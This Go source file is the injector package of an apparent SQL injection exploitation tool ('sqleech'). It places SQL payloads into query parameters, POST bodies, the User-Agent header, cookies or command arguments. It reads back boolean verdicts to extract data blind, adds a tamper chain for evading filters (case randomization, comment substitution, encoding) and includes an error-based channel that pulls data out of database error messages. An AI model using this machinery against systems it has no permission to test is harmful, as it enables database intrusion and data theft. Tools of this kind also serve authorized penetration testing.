// Package injector sends one mutated request for a given payload and
// turns the raw response into the oracle verdict the extraction engine
// bisects on. Each concrete Injector owns the mechanics of where the
// payload goes (query string, body, header, cookie, argv) and how a
// Trigger reads the result back.
package injector

import (
	"context"
	"fmt"
	"net/url"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/0x6d61/sqleech/internal/oracle"
	"github.com/0x6d61/sqleech/internal/sqlictx"
	"github.com/0x6d61/sqleech/internal/tamper"
	"github.com/0x6d61/sqleech/internal/transport"
)

// Result is what Inject returns: exactly one of Bool or Str is set,
// matching whether the caller asked for a boolean oracle verdict or a
// raw captured string (in-band extraction).
type Result struct {
	Bool *bool
	Str  *string
}

// Injector sends one payload and reports the oracle's verdict.
type Injector interface {
	// Inject builds the target SQL with the injection context's target
	// SQL fragment set to sql, sends it, and returns the oracle's
	// verdict via the injector's Trigger.
	Inject(ctx context.Context, sql string) (Result, error)

	// Context returns the injection context this Injector was built
	// with. Read-only during a pool.SolveTasks batch.
	Context() *sqlictx.Context

	// Trigger returns the oracle.Trigger this Injector currently
	// evaluates responses with.
	Trigger() *oracle.Trigger

	// SetTrigger swaps the oracle.Trigger used by subsequent Inject
	// calls, letting a caller invert or replace the success condition
	// after construction.
	SetTrigger(t *oracle.Trigger)
}

// processParameters builds the mutated sqlictx.Context carrying sql as
// the tampered target SQL fragment, grounded on boolean.go's
// buildProbeRequest: same split between "where does the payload go" and
// "how is the carrier request built".
func processParameters(base *sqlictx.Context, sql string) (*sqlictx.Context, error) {
	return base.WithTargetSQL(sql)
}

// processResponse classifies a raw oracle.Response via trigger, applying
// ERROR-mode inversion inside Trigger.Evaluate.
func processResponse(trigger *oracle.Trigger, resp *oracle.Response) bool {
	return trigger.Evaluate(resp)
}

// httpInjector is the shared implementation behind HTTPGet, HTTPPost,
// HTTPUserAgent, and HTTPCookie: they differ only in where the payload
// is placed on the outgoing request.
type httpInjector struct {
	ctx     *sqlictx.Context
	client  transport.Client
	trigger *oracle.Trigger
	place   func(req *transport.Request, mutated *sqlictx.Context, payload string)
}

// HTTPGet injects via the query string parameter named by ctx.Params'
// target, grounded on modifyQueryParam.
func HTTPGet(ctx *sqlictx.Context, client transport.Client, trigger *oracle.Trigger) Injector {
	return &httpInjector{ctx: ctx, client: client, trigger: trigger, place: placeQuery}
}

// HTTPPost injects via a urlencoded body parameter, grounded on
// modifyBodyParam.
func HTTPPost(ctx *sqlictx.Context, client transport.Client, trigger *oracle.Trigger) Injector {
	return &httpInjector{ctx: ctx, client: client, trigger: trigger, place: placeBody}
}

// HTTPUserAgent injects via the User-Agent header.
func HTTPUserAgent(ctx *sqlictx.Context, client transport.Client, trigger *oracle.Trigger) Injector {
	return &httpInjector{ctx: ctx, client: client, trigger: trigger, place: placeHeader("User-Agent")}
}

// HTTPCookie injects via a named cookie. The cookie name is taken from
// ctx.Params' target.
func HTTPCookie(ctx *sqlictx.Context, client transport.Client, trigger *oracle.Trigger) Injector {
	return &httpInjector{ctx: ctx, client: client, trigger: trigger, place: placeCookie}
}

func (h *httpInjector) Context() *sqlictx.Context { return h.ctx }

func (h *httpInjector) Trigger() *oracle.Trigger { return h.trigger }

func (h *httpInjector) SetTrigger(t *oracle.Trigger) { h.trigger = t }

func (h *httpInjector) Inject(ctx context.Context, sql string) (Result, error) {
	mutated, err := processParameters(h.ctx, sql)
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	payload, err := mutated.TargetValue()
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	req := buildBaseRequest(mutated)
	h.place(req, mutated, payload)

	start := time.Now()
	resp, err := h.client.Do(ctx, req)
	if err != nil {
		return Result{}, fmt.Errorf("injector: transport: %w", err)
	}
	duration := time.Since(start)

	oresp := &oracle.Response{Status: resp.StatusCode, Body: resp.Body, Duration: duration}
	b := processResponse(h.trigger, oresp)
	return Result{Bool: &b}, nil
}

// buildBaseRequest copies the injection context's non-payload request
// shape (method, headers, cookies), grounded on buildProbeRequest.
func buildBaseRequest(ctx *sqlictx.Context) *transport.Request {
	req := &transport.Request{URL: ctx.URL}

	if len(ctx.Headers) > 0 {
		req.Headers = make(map[string]string, len(ctx.Headers))
		for k, v := range ctx.Headers {
			req.Headers[k] = v
		}
	}
	if len(ctx.Cookie) > 0 {
		req.Cookies = make(map[string]string, len(ctx.Cookie))
		for k, v := range ctx.Cookie {
			req.Cookies[k] = v
		}
	}
	return req
}

func placeQuery(req *transport.Request, mutated *sqlictx.Context, payload string) {
	req.URL = mutateQueryTarget(req.URL, targetKeyOrDefault(mutated, "q"), payload)
}

func placeBody(req *transport.Request, mutated *sqlictx.Context, payload string) {
	req.Method = "POST"
	req.ContentType = "application/x-www-form-urlencoded"
	req.Body = mutateBodyTarget(req.Body, targetKeyOrDefault(mutated, "q"), payload)
}

func placeHeader(name string) func(req *transport.Request, mutated *sqlictx.Context, payload string) {
	return func(req *transport.Request, mutated *sqlictx.Context, payload string) {
		if req.Headers == nil {
			req.Headers = map[string]string{}
		}
		req.Headers[name] = payload
	}
}

func placeCookie(req *transport.Request, mutated *sqlictx.Context, payload string) {
	if req.Cookies == nil {
		req.Cookies = map[string]string{}
	}
	req.Cookies[targetKeyOrDefault(mutated, "id")] = payload
}

// targetKeyOrDefault returns the mapping target's parameter name, or
// def when Params is not a MappingParams (e.g. a sequence-addressed
// target has no name to carry over to an HTTP parameter).
func targetKeyOrDefault(ctx *sqlictx.Context, def string) string {
	if key, ok := ctx.TargetKey(); ok {
		return key
	}
	return def
}

// mutateQueryTarget sets the named query parameter to payload, leaving
// all others untouched. Grounded on boolean.go's modifyQueryParam.
func mutateQueryTarget(rawURL, key, payload string) string {
	parsed, err := url.Parse(rawURL)
	if err != nil {
		return rawURL
	}
	q := parsed.Query()
	q.Set(key, payload)
	parsed.RawQuery = q.Encode()
	return parsed.String()
}

// mutateBodyTarget sets the named urlencoded body parameter to payload,
// leaving all others untouched. Grounded on boolean.go's modifyBodyParam.
func mutateBodyTarget(body, key, payload string) string {
	values, err := url.ParseQuery(body)
	if err != nil {
		values = url.Values{}
	}
	values.Set(key, payload)
	return values.Encode()
}

// Cmd runs a local subprocess for each probe, capturing stdout and exit
// status. Subprocess spawning is not reentrant-safe, so the returned
// Injector forces its private working copy of ctx to Multithread=false
// regardless of the caller's setting -- the caller's own *sqlictx.Context
// is never mutated.
type Cmd struct {
	ctx     *sqlictx.Context
	command string
	args    []string
	trigger *oracle.Trigger
}

// NewCmd builds a Cmd injector. The payload replaces every occurrence of
// the literal string "SQLHERE" in args.
func NewCmd(ctx *sqlictx.Context, trigger *oracle.Trigger, command string, args ...string) *Cmd {
	private := *ctx
	private.Multithread = false
	return &Cmd{ctx: &private, command: command, args: args, trigger: trigger}
}

func (c *Cmd) Context() *sqlictx.Context { return c.ctx }

func (c *Cmd) Trigger() *oracle.Trigger { return c.trigger }

func (c *Cmd) SetTrigger(t *oracle.Trigger) { c.trigger = t }

func (c *Cmd) Inject(ctx context.Context, sql string) (Result, error) {
	mutated, err := processParameters(c.ctx, sql)
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}
	payload, err := mutated.TargetValue()
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	argv := make([]string, len(c.args))
	for i, a := range c.args {
		argv[i] = strings.ReplaceAll(a, "SQLHERE", payload)
	}

	start := time.Now()
	cmd := exec.CommandContext(ctx, c.command, argv...)
	out, runErr := cmd.Output()
	duration := time.Since(start)

	status := 0
	if runErr != nil {
		if exitErr, ok := runErr.(*exec.ExitError); ok {
			status = exitErr.ExitCode()
		} else {
			return Result{}, fmt.Errorf("injector: cmd: %w", runErr)
		}
	}

	resp := &oracle.Response{Status: status, Body: out, Duration: duration}
	b := processResponse(c.trigger, resp)
	return Result{Bool: &b}, nil
}

// StateGuard serializes processParameters->send->processResponse for an
// Injector whose implementation tracks per-request mutable state (e.g. a
// CSRF token fetched on every call). Embed it and call Lock/Unlock
// around Inject's body.
type StateGuard struct {
	mu sync.Mutex
}

func (g *StateGuard) Lock()   { g.mu.Lock() }
func (g *StateGuard) Unlock() { g.mu.Unlock() }

// ContextBased adapts an arbitrary send function to the Injector
// interface -- the reference adapter for custom transports that don't
// fit the HTTP/Cmd shapes above.
type ContextBased struct {
	StateGuard
	ctx     *sqlictx.Context
	trigger *oracle.Trigger
	send    func(ctx context.Context, mutated *sqlictx.Context, payload string) (*oracle.Response, error)
	guarded bool
}

// NewContextBased builds a ContextBased injector. If guarded is true,
// Inject holds the embedded StateGuard across send, serializing access
// to any mutable state send closes over.
func NewContextBased(ctx *sqlictx.Context, trigger *oracle.Trigger, guarded bool, send func(context.Context, *sqlictx.Context, string) (*oracle.Response, error)) *ContextBased {
	return &ContextBased{ctx: ctx, trigger: trigger, send: send, guarded: guarded}
}

func (c *ContextBased) Context() *sqlictx.Context { return c.ctx }

func (c *ContextBased) Trigger() *oracle.Trigger { return c.trigger }

func (c *ContextBased) SetTrigger(t *oracle.Trigger) { c.trigger = t }

func (c *ContextBased) Inject(ctx context.Context, sql string) (Result, error) {
	if c.guarded {
		c.Lock()
		defer c.Unlock()
	}

	mutated, err := processParameters(c.ctx, sql)
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	payload, err := mutated.TargetValue()
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	resp, err := c.send(ctx, mutated, payload)
	if err != nil {
		return Result{}, fmt.Errorf("injector: send: %w", err)
	}

	b := processResponse(c.trigger, resp)
	return Result{Bool: &b}, nil
}

// WithTamper wraps an Injector so the SQL payload passed to Inject is
// transformed by chain before it is sent, grounded on tamper.go's
// WrapClient decorator.
func WithTamper(inj Injector, chain TamperChain) Injector {
	if len(chain) == 0 {
		return inj
	}
	return &tamperedInjector{inner: inj, chain: chain}
}

// TamperChain transforms a raw SQL payload string before it is sent.
// Concrete tamper functions (space-to-comment, case randomization, char
// encoding, and so on) live in internal/tamper and are composed here.
type TamperChain []func(string) string

// FromTamperChain adapts a tamper.Chain (built with tamper.BuildChain) to
// the TamperChain shape WithTamper expects.
func FromTamperChain(chain tamper.Chain) TamperChain {
	fns := make(TamperChain, len(chain))
	for i, t := range chain {
		fns[i] = t.Apply
	}
	return fns
}

type tamperedInjector struct {
	inner Injector
	chain TamperChain
}

func (t *tamperedInjector) Context() *sqlictx.Context { return t.inner.Context() }

func (t *tamperedInjector) Trigger() *oracle.Trigger { return t.inner.Trigger() }

func (t *tamperedInjector) SetTrigger(tr *oracle.Trigger) { t.inner.SetTrigger(tr) }

func (t *tamperedInjector) Inject(ctx context.Context, sql string) (Result, error) {
	for _, fn := range t.chain {
		sql = fn(sql)
	}
	return t.inner.Inject(ctx, sql)
}

// HTTPErrorChannel is a supplemented error-based extraction channel: it
// sends a payload designed to leak data inside the DBMS's own error
// message (e.g. MySQL's XPath "double query" trick) and parses the
// captured substring out of the response body, rather than bisecting a
// boolean oracle at all. Grounded on errorbased.go's cast/extract regex
// parsing, adapted to the tag-framing convention forge.Base.ForgeSecondQuery
// uses for in-band extraction.
type HTTPErrorChannel struct {
	ctx     *sqlictx.Context
	client  transport.Client
	tag     string
	trigger *oracle.Trigger
}

// NewHTTPErrorChannel builds an error-channel extractor. tag must match
// the marker forge wraps the captured value in (see
// forge.Base.ForgeSecondQuery's union tag framing), reused here as the
// delimiter searched for in the raised error text.
func NewHTTPErrorChannel(ctx *sqlictx.Context, client transport.Client, tag string) *HTTPErrorChannel {
	return &HTTPErrorChannel{ctx: ctx, client: client, tag: tag}
}

func (h *HTTPErrorChannel) Context() *sqlictx.Context { return h.ctx }

// Trigger and SetTrigger satisfy Injector for parity with the other
// implementers; HTTPErrorChannel extracts a raw captured string rather
// than evaluating a boolean verdict, so no trigger is ever consulted.
func (h *HTTPErrorChannel) Trigger() *oracle.Trigger { return h.trigger }

func (h *HTTPErrorChannel) SetTrigger(t *oracle.Trigger) { h.trigger = t }

func (h *HTTPErrorChannel) Inject(ctx context.Context, sql string) (Result, error) {
	mutated, err := processParameters(h.ctx, sql)
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	payload, err := mutated.TargetValue()
	if err != nil {
		return Result{}, fmt.Errorf("injector: %w", err)
	}

	req := buildBaseRequest(mutated)
	placeQuery(req, mutated, payload)

	resp, err := h.client.Do(ctx, req)
	if err != nil {
		return Result{}, fmt.Errorf("injector: transport: %w", err)
	}

	body := string(resp.Body)
	start := strings.Index(body, h.tag)
	if start == -1 {
		return Result{}, fmt.Errorf("injector: error channel: tag %q not found in response", h.tag)
	}
	start += len(h.tag)
	end := strings.Index(body[start:], h.tag)
	if end == -1 {
		return Result{}, fmt.Errorf("injector: error channel: closing tag not found in response")
	}

	captured := body[start : start+end]
	return Result{Str: &captured}, nil
}
